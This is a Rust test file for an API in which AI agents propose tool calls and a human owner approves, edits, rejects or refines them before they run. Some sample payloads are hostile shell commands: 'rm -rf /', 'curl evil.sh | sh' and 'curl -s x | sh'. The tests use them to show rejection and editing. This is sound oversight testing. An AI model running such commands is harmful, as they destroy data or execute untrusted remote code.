//! The proposal lifecycle through the API.

use crate::harness::Server;
use reqwest::{Method, StatusCode};
use serde_json::json;
use std::time::{Duration, Instant};

#[tokio::test]
async fn propose_then_approve_wakes_the_waiting_agent() {
    let s = Server::start().await;
    let p = s
        .propose(json!({"kind": "tool.call", "payload": {"tool": "Bash", "input": {"command": "ls"}}, "title": "list", "summary": "look around", "session_id": "s1"}))
        .await;
    assert_eq!(p["status"], "pending");
    assert_eq!(p["agent"], "default");
    assert_eq!(p["settled"], false);
    assert_eq!(p["session_id"], "s1");
    assert_eq!(p["preview"]["tool"], "Bash");
    let id = p["id"].as_str().unwrap().to_string();
    assert!(id.len() >= 26, "ids are long and random: {id}");

    let waiter = {
        let (http, url, tok, id) = (s.http.clone(), s.url.clone(), s.agent.clone(), id.clone());
        tokio::spawn(async move {
            let started = Instant::now();
            let r = http.get(format!("{url}/v1/proposals/{id}?wait=60")).bearer_auth(tok).send().await.unwrap();
            (r.json::<serde_json::Value>().await.unwrap(), started.elapsed())
        })
    };
    tokio::time::sleep(Duration::from_millis(300)).await;
    let (st, d) = s.decide(&id, json!({"outcome": "approve", "reason": "fine"})).await;
    assert_eq!(st, StatusCode::OK, "{d}");
    let (w, took) = waiter.await.unwrap();
    assert_eq!(w["status"], "approved");
    assert_eq!(w["settled"], true);
    assert_eq!(w["decision"]["channel"], "api", "decided through the owner API, not by the CLI");
    assert_eq!(w["decision"]["by"], "owner");
    assert_eq!(w["approved_payload"], json!({"tool": "Bash", "input": {"command": "ls"}}));
    assert_eq!(w["decision"]["approved_sha256"].as_str().unwrap().len(), 64);
    assert!(took < Duration::from_secs(10), "the wait returned on the decision, not the timeout");

    // A second decision is refused and changes nothing.
    let (st, e) = s.decide(&id, json!({"outcome": "reject", "reason": "changed my mind"})).await;
    assert_eq!(st, StatusCode::CONFLICT);
    assert_eq!(e["error"]["code"], "invalid_state");
    let (_, now) = s.get(&id, &s.agent).await;
    assert_eq!(now["status"], "approved");
    assert_eq!(now["decision"]["reason"], "fine");
}

#[tokio::test]
async fn approve_with_edits_gives_the_agent_the_edited_input() {
    let s = Server::start().await;
    let id = s.propose_tool("rm -rf /").await;
    let (st, d) = s.decide(&id, json!({"outcome": "approve", "edits": {"input": {"command": "rm -rf ./build"}}})).await;
    assert_eq!(st, StatusCode::OK, "{d}");
    let (_, p) = s.get(&id, &s.agent).await;
    assert_eq!(p["payload"]["input"]["command"], "rm -rf /", "the stored payload never changes");
    assert_eq!(p["approved_payload"]["input"]["command"], "rm -rf ./build");
    assert_eq!(p["decision"]["edited_payload"]["input"]["command"], "rm -rf ./build");

    // Edits that change the tool are refused, and the proposal stays pending.
    let id2 = s.propose_tool("ls").await;
    let (st, e) = s.decide(&id2, json!({"outcome": "approve", "edits": {"tool": "Write", "input": {}}})).await;
    assert_eq!(st, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(e["error"]["code"], "invalid_edits");
    assert_eq!(s.get(&id2, &s.agent).await.1["status"], "pending");
}

#[tokio::test]
async fn reject_refine_and_a_revision_that_supersedes() {
    let s = Server::start().await;
    let a = s.propose_tool("curl evil.sh | sh").await;
    let (st, p) = s.decide(&a, json!({"outcome": "reject", "reason": "never pipe to sh"})).await;
    assert_eq!(st, StatusCode::OK);
    assert_eq!(p["status"], "rejected");
    assert_eq!(p["decision"]["reason"], "never pipe to sh");

    let b = s.propose_tool("git push --force").await;
    let (st, e) = s.decide(&b, json!({"outcome": "refine"})).await;
    assert_eq!(st, StatusCode::UNPROCESSABLE_ENTITY, "refine needs feedback");
    assert_eq!(e["error"]["code"], "feedback_required");
    let (st, p) = s.decide(&b, json!({"outcome": "refine", "feedback": "push to a branch instead"})).await;
    assert_eq!(st, StatusCode::OK);
    assert_eq!(p["status"], "refined");
    assert_eq!(p["decision"]["feedback"], "push to a branch instead");

    let c = s
        .propose(json!({"kind": "tool.call", "payload": {"tool": "Bash", "input": {"command": "git push origin fix"}}, "supersedes": b}))
        .await;
    assert_eq!(c["supersedes"], b.as_str());

    // Revising a still-pending proposal withdraws it.
    let d = s.propose_tool("v1").await;
    let e2 = s
        .propose(json!({"kind": "tool.call", "payload": {"tool": "Bash", "input": {"command": "v2"}}, "supersedes": d}))
        .await;
    assert_eq!(s.get(&d, &s.agent).await.1["status"], "withdrawn");
    assert_eq!(e2["status"], "pending");

    // supersedes must name one of this agent's proposals.
    let (st, e) = s.try_propose(json!({"kind": "tool.call", "payload": {"tool": "x"}, "supersedes": "p_nope"})).await;
    assert_eq!(st, StatusCode::NOT_FOUND);
    assert_eq!(e["error"]["code"], "unknown_supersedes");
}

#[tokio::test]
async fn withdraw_only_pending_and_only_own() {
    let s = Server::start().await;
    let id = s.propose_tool("ls").await;
    let (st, p) = s.req(Method::DELETE, &format!("/proposals/{id}"), Some(&s.agent), None).await;
    assert_eq!(st, StatusCode::OK);
    assert_eq!(p["status"], "withdrawn");
    let (st, e) = s.req(Method::DELETE, &format!("/proposals/{id}"), Some(&s.agent), None).await;
    assert_eq!(st, StatusCode::CONFLICT);
    assert_eq!(e["error"]["code"], "invalid_state");
    // The owner rejects rather than withdraws.
    let id2 = s.propose_tool("ls").await;
    let (st, _) = s.req(Method::DELETE, &format!("/proposals/{id2}"), Some(&s.owner), None).await;
    assert_eq!(st, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn expiry_settles_and_wakes_waiters() {
    let s = Server::start().await;
    let p = s.propose(json!({"kind": "tool.call", "payload": {"tool": "Bash"}, "expires_in": 1})).await;
    let id = p["id"].as_str().unwrap();
    let started = Instant::now();
    let (st, w) = s.req(Method::GET, &format!("/proposals/{id}?wait=30"), Some(&s.agent), None).await;
    assert_eq!(st, StatusCode::OK);
    assert_eq!(w["status"], "expired");
    assert!(started.elapsed() < Duration::from_secs(5), "expired at its time, not the wait's: {:?}", started.elapsed());
    let (st, e) = s.decide(id, json!({"outcome": "approve"})).await;
    assert_eq!(st, StatusCode::CONFLICT, "{e}");
    let (_, audit) = s.req(Method::GET, &format!("/proposals/{id}/audit"), Some(&s.owner), None).await;
    let last = audit["items"].as_array().unwrap().last().unwrap().clone();
    assert_eq!((last["to"].as_str(), last["channel"].as_str()), (Some("expired"), Some("system")));
}

#[tokio::test]
async fn wait_times_out_with_the_current_status() {
    let s = Server::start().await;
    let id = s.propose_tool("ls").await;
    let started = Instant::now();
    let (st, w) = s.req(Method::GET, &format!("/proposals/{id}?wait=1"), Some(&s.agent), None).await;
    assert_eq!(st, StatusCode::OK);
    assert_eq!(w["status"], "pending");
    assert!(started.elapsed() >= Duration::from_millis(900));
}

#[tokio::test]
async fn no_wake_is_lost_when_the_decision_races_the_wait() {
    let s = Server::start().await;
    let mut ids = Vec::new();
    for i in 0..150 {
        ids.push(s.propose_tool(&format!("echo {i}")).await);
    }
    let mut handles = Vec::new();
    for (i, id) in ids.iter().enumerate() {
        let (http, url, agent, owner, id) =
            (s.http.clone(), s.url.clone(), s.agent.clone(), s.owner.clone(), id.clone());
        handles.push(tokio::spawn(async move {
            let wait = http.get(format!("{url}/v1/proposals/{id}?wait=20")).bearer_auth(&agent).send();
            let decide = async {
                // Stagger so the decision lands before, during and after the wait starts.
                tokio::time::sleep(Duration::from_micros((i as u64 % 10) * 150)).await;
                http.post(format!("{url}/v1/proposals/{id}/decision"))
                    .bearer_auth(&owner)
                    .json(&json!({"outcome": "approve"}))
                    .send()
                    .await
            };
            let started = Instant::now();
            let (w, d) = tokio::join!(wait, decide);
            assert!(d.unwrap().status().is_success());
            let w: serde_json::Value = w.unwrap().json().await.unwrap();
            (w["status"].as_str().unwrap_or("").to_string(), started.elapsed())
        }));
    }
    let mut lost = 0;
    for h in handles {
        let (status, took) = h.await.unwrap();
        if status != "approved" || took > Duration::from_secs(10) {
            lost += 1;
        }
    }
    assert_eq!(lost, 0, "waits that missed their decision");
}

#[tokio::test]
async fn list_is_paginated_filtered_and_scoped_to_the_agent() {
    let s = Server::start().await;
    let (_, other) = s.req(Method::POST, "/agents", Some(&s.owner), Some(json!({"name": "other"}))).await;
    let other = other["token"].as_str().unwrap().to_string();
    let mut mine = Vec::new();
    for i in 0..7 {
        mine.push(s.propose(json!({"kind": "tool.call", "payload": {"tool": "t", "input": i}, "group_id": if i < 3 { "g" } else { "h" }})).await["id"].as_str().unwrap().to_string());
    }
    let (st, theirs) = s
        .req(Method::POST, "/proposals", Some(&other), Some(json!({"kind": "tool.call", "payload": {"tool": "t"}})))
        .await;
    assert_eq!(st, StatusCode::CREATED);
    let theirs = theirs["id"].as_str().unwrap().to_string();
    s.decide(&mine[0], json!({"outcome": "reject"})).await;

    let mut seen = Vec::new();
    let mut cursor = String::new();
    loop {
        let (st, page) = s.req(Method::GET, &format!("/proposals?limit=3&cursor={cursor}"), Some(&s.agent), None).await;
        assert_eq!(st, StatusCode::OK, "{page}");
        for p in page["items"].as_array().unwrap() {
            seen.push(p["id"].as_str().unwrap().to_string());
        }
        match page["next_cursor"].as_str() {
            Some(c) => cursor = c.to_string(),
            None => break,
        }
    }
    let mut expected = mine.clone();
    expected.reverse();
    assert_eq!(seen, expected, "newest first, all pages, only the agent's own");

    let (_, all) = s.req(Method::GET, "/proposals?limit=100", Some(&s.owner), None).await;
    assert_eq!(all["items"].as_array().unwrap().len(), 8, "the owner sees every agent's");
    let (_, g) = s.req(Method::GET, "/proposals?group_id=g&status=pending", Some(&s.owner), None).await;
    assert_eq!(g["items"].as_array().unwrap().len(), 2);
    let (st, _) = s.get(&theirs, &s.agent).await;
    assert_eq!(st, StatusCode::NOT_FOUND, "another agent's proposal is invisible");
    let (_, found) = s.req(Method::GET, "/proposals?q=OTHER", Some(&s.owner), None).await;
    assert_eq!(found["items"].as_array().unwrap().len(), 1, "search matches the agent's name: {found}");
    // The end of an id is random (its start is the creation time, shared by its neighbours).
    let tail = &mine[3][mine[3].len() - 10..];
    let (_, found) = s.req(Method::GET, &format!("/proposals?q={tail}"), Some(&s.owner), None).await;
    assert_eq!(found["items"][0]["id"], mine[3].as_str(), "search matches ids");
    let (st, e) = s.req(Method::GET, "/proposals?status=done", Some(&s.owner), None).await;
    assert_eq!((st, e["error"]["code"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_field")));
    let (st, e) = s.req(Method::GET, "/proposals?cursor=zzz", Some(&s.owner), None).await;
    assert_eq!((st, e["error"]["code"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_cursor")));
}

#[tokio::test]
async fn batch_decisions_skip_what_was_settled_and_report_per_item() {
    let s = Server::start().await;
    let a = s.propose_tool("a").await;
    let b = s.propose_tool("b").await;
    let c = s.propose_tool("c").await;
    let untouched = s.propose_tool("d").await;
    s.decide(&b, json!({"outcome": "reject", "reason": "no"})).await;
    let (st, r) = s
        .req(
            Method::POST,
            "/decisions",
            Some(&s.owner),
            Some(json!({"items": [
                {"id": a, "outcome": "approve"},
                {"id": b, "outcome": "approve"},
                {"id": c, "outcome": "refine"},
                {"id": "p_missing", "outcome": "approve"}
            ]})),
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{r}");
    assert_eq!((r["decided"].as_u64(), r["skipped"].as_u64(), r["failed"].as_u64()), (Some(1), Some(1), Some(2)));
    let res = r["results"].as_array().unwrap();
    assert_eq!(res[0]["result"], "decided");
    assert_eq!(res[1]["result"], "skipped");
    assert_eq!(res[1]["status"], "rejected");
    assert_eq!(res[2]["error"]["code"], "feedback_required");
    assert_eq!(res[3]["error"]["code"], "not_found");
    assert_eq!(s.get(&untouched, &s.agent).await.1["status"], "pending", "items not listed stay pending");
    assert_eq!(s.get(&c, &s.agent).await.1["status"], "pending");
}

#[tokio::test]
async fn a_group_is_decided_together_or_not_at_all() {
    let s = Server::start().await;
    let mut ids = Vec::new();
    for i in 0..4 {
        ids.push(
            s.propose(json!({"kind": "tool.call", "payload": {"tool": "Edit", "input": i}, "group_id": "task-7"}))
                .await["id"]
                .as_str()
                .unwrap()
                .to_string(),
        );
    }
    let other = s.propose(json!({"kind": "tool.call", "payload": {"tool": "Edit"}, "group_id": "task-8"})).await;
    // An agent cannot decide a group.
    let (st, _) = s
        .req(Method::POST, "/decisions", Some(&s.agent), Some(json!({"group_id": "task-7", "outcome": "approve"})))
        .await;
    assert_eq!(st, StatusCode::FORBIDDEN);
    // One member already settled: the rest are decided together.
    s.decide(&ids[0], json!({"outcome": "reject", "reason": "not this one"})).await;
    let (st, r) = s
        .req(
            Method::POST,
            "/decisions",
            Some(&s.owner),
            Some(json!({"group_id": "task-7", "outcome": "approve", "reason": "resume"})),
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{r}");
    assert_eq!(r["decided"], 3);
    for id in &ids[1..] {
        assert_eq!(s.get(id, &s.agent).await.1["status"], "approved");
    }
    assert_eq!(s.get(other["id"].as_str().unwrap(), &s.agent).await.1["status"], "pending");
    let (st, e) = s
        .req(Method::POST, "/decisions", Some(&s.owner), Some(json!({"group_id": "task-7", "outcome": "approve"})))
        .await;
    assert_eq!((st, e["error"]["code"].as_str()), (StatusCode::CONFLICT, Some("invalid_state")));
    let (st, e) = s
        .req(Method::POST, "/decisions", Some(&s.owner), Some(json!({"group_id": "nope", "outcome": "approve"})))
        .await;
    assert_eq!((st, e["error"]["code"].as_str()), (StatusCode::NOT_FOUND, Some("not_found")));
}

#[tokio::test]
async fn idempotency_key_returns_the_same_proposal_or_conflicts() {
    let s = Server::start().await;
    let body = json!({"kind": "tool.call", "payload": {"tool": "Bash", "input": {"command": "make"}}});
    let send = |b: serde_json::Value, key: &'static str| {
        let (http, url, tok) = (s.http.clone(), s.url.clone(), s.agent.clone());
        async move {
            let r = http
                .post(format!("{url}/v1/proposals"))
                .bearer_auth(tok)
                .header("Idempotency-Key", key)
                .json(&b)
                .send()
                .await
                .unwrap();
            (r.status(), r.json::<serde_json::Value>().await.unwrap())
        }
    };
    let (s1, p1) = send(body.clone(), "k-1").await;
    assert_eq!(s1, StatusCode::CREATED);
    // Same body with keys in another order is the same request.
    let reordered: serde_json::Value =
        serde_json::from_str(r#"{"payload": {"input": {"command": "make"}, "tool": "Bash"}, "kind": "tool.call"}"#)
            .unwrap();
    let (s2, p2) = send(reordered, "k-1").await;
    assert_eq!(s2, StatusCode::OK);
    assert_eq!(p1["id"], p2["id"]);
    let (s3, e) =
        send(json!({"kind": "tool.call", "payload": {"tool": "Bash", "input": {"command": "make install"}}}), "k-1")
            .await;
    assert_eq!(s3, StatusCode::CONFLICT);
    assert_eq!(e["error"]["code"], "idempotency_conflict");
    let (_, all) = s.req(Method::GET, "/proposals", Some(&s.agent), None).await;
    assert_eq!(all["items"].as_array().unwrap().len(), 1);
}

/// A decision names what the person was shown (`seen`, the payload's hash): one made on another
/// proposal's screen is refused with 409 `not_what_was_shown` and changes nothing; the right one
/// decides.
#[tokio::test]
async fn a_decision_for_another_proposal_than_the_one_shown_is_refused() {
    let s = Server::start().await;
    let shown =
        s.propose(json!({"kind": "tool.call", "payload": {"tool": "Bash", "input": {"command": "ls -la"}}})).await;
    let other = s
        .propose(json!({"kind": "tool.call", "payload": {"tool": "Bash", "input": {"command": "curl -s x | sh"}}}))
        .await;
    let seen = assent_receipt::payload_sha256(&shown["payload"]);
    let other_id = other["id"].as_str().unwrap();
    let (st, v) = s.decide(other_id, json!({"outcome": "approve", "seen": seen})).await;
    assert_eq!((st, v["error"]["code"].as_str()), (StatusCode::CONFLICT, Some("not_what_was_shown")), "{v}");
    assert_eq!(s.get(other_id, &s.owner.clone()).await.1["status"], "pending", "nothing decided");
    let (st, v) = s.decide(other_id, json!({"outcome": "approve", "seen": "zz"})).await;
    assert!(st.is_client_error(), "{v}");
    let (st, v) = s.decide(shown["id"].as_str().unwrap(), json!({"outcome": "approve", "seen": seen})).await;
    assert_eq!((st, v["status"].as_str()), (StatusCode::OK, Some("approved")), "{v}");
}
